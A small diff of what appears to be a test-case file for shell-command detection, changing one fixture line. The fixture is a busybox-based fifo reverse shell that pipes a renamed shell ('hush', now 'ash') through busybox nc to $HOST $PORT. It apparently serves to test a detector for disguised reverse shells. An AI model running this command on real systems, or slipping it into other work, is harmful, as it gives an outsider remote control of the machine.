@@ -96,7 +96,7 @@ CASES = (
         text="""
             cp "$(command -v busybox)" loader
             mkfifo q
-            (exec -a hush ./loader <q 2>&1) | (exec -a nc ./loader $HOST $PORT) >q
+            (exec -a ash ./loader <q 2>&1) | (exec -a nc ./loader $HOST $PORT) >q
         """,
     ),
     Case(
